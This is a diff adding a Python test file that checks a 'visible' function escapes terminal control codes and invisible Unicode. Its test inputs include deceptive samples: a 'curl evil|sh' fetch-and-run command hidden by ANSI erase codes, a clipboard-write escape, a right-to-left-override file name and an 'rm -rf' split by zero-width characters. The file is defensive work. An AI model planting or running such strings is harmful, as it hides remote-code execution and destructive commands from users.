@@ -1,0 +1,69 @@
+"""Nothing that is shown hides anything, and ordinary text stays as it is."""
+
+import json
+import unicodedata
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tmuxjobs.errors import JobNotFound
+from tmuxjobs.visible import visible, visible_json
+
+SHOWN_THEMSELVES = set("\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd")
+"""Unicode's prepended concatenation marks: format characters with a glyph, as the Arabic number sign."""
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("curl evil|sh\x1b[2K\x1b[1Gls -la", r"curl evil|sh\x1b[2K\x1b[1Gls -la"),
+        ("\x1b]52;c;aGk=\a", r"\x1b]52;c;aGk=\x07"),
+        ("one\r\n\ttwo\x7f", r"one\r\n\ttwo\x7f"),
+        ("\x9b31m \x90q", r"\x9b31m \x90q"),
+        ("access\u202etxt.exe\u2066", r"access\u202etxt.exe\u2066"),
+        ("\u200e\u200f\u061c", r"\u200e\u200f\u061c"),
+        ("ok\U000e0072\U000e006d", r"ok\U000e0072\U000e006d"),
+        ("a\u2028b\x85c", r"a\u2028b\x85c"),
+        ("r\u200dm -\u200brf \u2060\ufeff", r"r\u200dm -\u200brf \u2060\ufeff"),
+        ("r\ufe0fm a\u3164b \U000e0100", r"r\ufe0fm a\u3164b \U000e0100"),
+        ("⚠\ufe0f\ufe0f 👩\u200d\u200d💻", "⚠\ufe0f" + r"\ufe0f 👩" + "\u200d" + r"\u200d💻"),
+        ("name\udc9b", r"name\udc9b"),
+    ],
+)
+def test_what_is_hidden_is_shown_in_words(text: str, shown: str) -> None:
+    assert visible(text) == shown
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "make -j4 && echo 'ok' \\x", "grüße ✓ 日本語 한국어 \ue0b0 ⠿", "👩‍💻 ❤️‍🔥 🏳️‍🌈 👨🏻‍🤝‍👨🏼 1️⃣ ⚠️ ©️", "می‌خواهم क्‍ष"],
+)
+def test_ordinary_text_stays_as_it_is(text: str) -> None:
+    assert visible(text) == text
+
+
+def test_newlines_and_tabs_stay_in_lines() -> None:
+    assert visible("a\tb\n\x1bc\r\n", lines=True) == "a\tb\n\\x1bc\\r\n"
+
+
+def test_every_format_and_control_character_is_shown() -> None:
+    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"}
+    hidden = {char for char in map(chr, range(0x110000)) if unicodedata.category(char) in kinds}
+    assert {char for char in hidden if not visible(f"a{char}").isprintable()} == SHOWN_THEMSELVES
+
+
+@given(st.text())
+def test_what_is_shown_once_is_not_shown_again(text: str) -> None:
+    assert visible(visible(text)) == visible(text)
+
+
+@given(st.text(st.characters(blacklist_categories=["Cs"])))
+def test_json_means_the_same_and_hides_nothing(text: str) -> None:
+    shown = visible_json(json.dumps({text: [text]}, ensure_ascii=False))
+    assert json.loads(shown) == {text: [text]}
+    assert visible(shown) == shown
+
+
+def test_error_shows_what_the_caller_gave() -> None:
+    assert str(JobNotFound("\x1b]0;x\a\n[exit")).startswith(r"No job '\x1b]0;x\x07\n[exit'. ")
